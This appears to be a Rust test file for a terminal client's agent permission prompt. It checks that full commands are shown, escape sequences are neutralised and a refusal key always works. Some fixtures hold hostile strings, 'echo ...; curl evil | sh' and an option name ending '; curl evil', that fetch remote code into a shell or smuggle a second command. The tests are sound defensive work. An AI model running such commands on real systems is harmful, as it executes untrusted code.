use acp_sdk::v1::{
    PermissionOption, PermissionOptionKind, RequestPermissionRequest, ToolCallUpdate, ToolKind,
};

use unicode_width::UnicodeWidthStr;

use super::*;

fn question(kinds: &[PermissionOptionKind]) -> PermissionRequest {
    let call = ToolCallUpdate::new("call")
        .with_title("Run\n\u{1b}[2Jls")
        .with_kind(ToolKind::Execute);
    let options = kinds
        .iter()
        .enumerate()
        .map(|(index, kind)| PermissionOption::new(index.to_string(), "Name\u{7}", kind.clone()));
    PermissionRequest::new(RequestPermissionRequest::new("s", call, options.collect()))
}

#[test]
fn a_key_picks_the_option_of_its_kind() {
    use PermissionOptionKind::{AllowAlways, AllowOnce, RejectAlways, RejectOnce};
    let question = question(&[RejectAlways, AllowAlways, AllowOnce, RejectOnce, AllowOnce]);
    for (key, id) in [
        ('d', "0"),
        ('a', "1"),
        ('y', "2"),
        ('n', "3"),
        ('5', "4"),
        ('1', "0"),
    ] {
        assert_eq!(
            decision(key, &question),
            Some(Decision::Option(id.into())),
            "{key}"
        );
    }
    for key in ['x', '6', '0', '\r', ' ', 'Y'] {
        assert_eq!(decision(key, &question), None, "{key}");
    }
    assert_eq!(decision('\u{1b}', &question), Some(Decision::Reject));
}

#[test]
fn a_refusal_is_always_possible() {
    let question = question(&[PermissionOptionKind::AllowAlways]);
    assert_eq!(decision('n', &question), Some(Decision::Reject));
    assert_eq!(decision('y', &question), None, "once is not always");
}

#[test]
fn the_agent_controls_nothing() {
    let question = question(&[PermissionOptionKind::AllowOnce]);
    let text = shown(&question, &[], 80, Paint { colours: false });
    assert_eq!(text, "? May the agent: Run\n      \\u{1b}[2Jls (execute)\n");
    assert_eq!(keys(&question, 80, 0)[0], "  y  allow once: Name");
}

/// "Allow always" may name the commands that it allows.
#[test]
fn the_whole_name_of_an_option_is_shown_at_any_width() {
    let name = format!(
        "Yes, and for all that begin with `{}; curl evil`",
        "x".repeat(100)
    );
    let mut question = question(&[PermissionOptionKind::AllowAlways]);
    question.request.options[0].name = name.clone();
    for width in [40, 80, 200] {
        let text = shown(&question, &[], width, Paint { colours: false });
        let key = &keys(&question, width, 0)[0];
        assert!(key.width() < width, "{key}");
        let joined = text.replace("\n  ", " ").replace(' ', "");
        let whole = format!("allowalways:{}", name.replace(' ', ""));
        assert_eq!(
            joined.contains(&whole),
            key.ends_with('…'),
            "{width}: {text}\n{key}"
        );
        assert_eq!(key.ends_with('…'), width < 200, "{key}");
    }
}

#[test]
fn the_whole_command_is_shown_at_any_width() {
    let command = format!("echo {}; curl evil | sh", "x".repeat(300));
    let mut question = question(&[PermissionOptionKind::AllowOnce]);
    question.raw_input = Some(acp_sdk::Json::from(
        serde_json::json!({ "command": command }),
    ));
    for width in [40, 80, 200] {
        let text = shown(&question, &[], width, Paint { colours: false });
        let joined: String = text.split_whitespace().collect();
        let expected: String = command.split_whitespace().collect();
        assert!(joined.contains(&expected), "{text}");
    }
}

#[test]
fn keys_with_modifiers_are_no_answers() {
    for modifiers in [
        KeyModifiers::CONTROL,
        KeyModifiers::ALT,
        KeyModifiers::SUPER,
    ] {
        for code in [
            KeyCode::Char('a'),
            KeyCode::Char('d'),
            KeyCode::Char('y'),
            KeyCode::Esc,
        ] {
            use PermissionOptionKind::{AllowAlways, AllowOnce, RejectAlways};
            let question = Box::new(question(&[AllowOnce, AllowAlways, RejectAlways]));
            let (answer, mut answered) = oneshot::channel();
            let mut asked = Asked::new("s".into(), What::Permission { question, answer });
            asked.more = vec!["more".to_owned()];
            let next = asked.key(KeyEvent::new(code, modifiers), 80);
            assert!(matches!(&next, Next::Open(asked) if asked.more.len() == 1));
            assert!(answered.try_recv().is_err());
        }
    }
    let question = Box::new(question(&[PermissionOptionKind::AllowOnce]));
    let (answer, mut answered) = oneshot::channel();
    let asked = Asked::new("s".into(), What::Permission { question, answer });
    let key = KeyEvent::new(KeyCode::Char('y'), KeyModifiers::NONE);
    assert!(matches!(asked.key(key, 80), Next::Answered(_)));
    assert_eq!(answered.try_recv(), Ok(Decision::Option("0".into())));
}
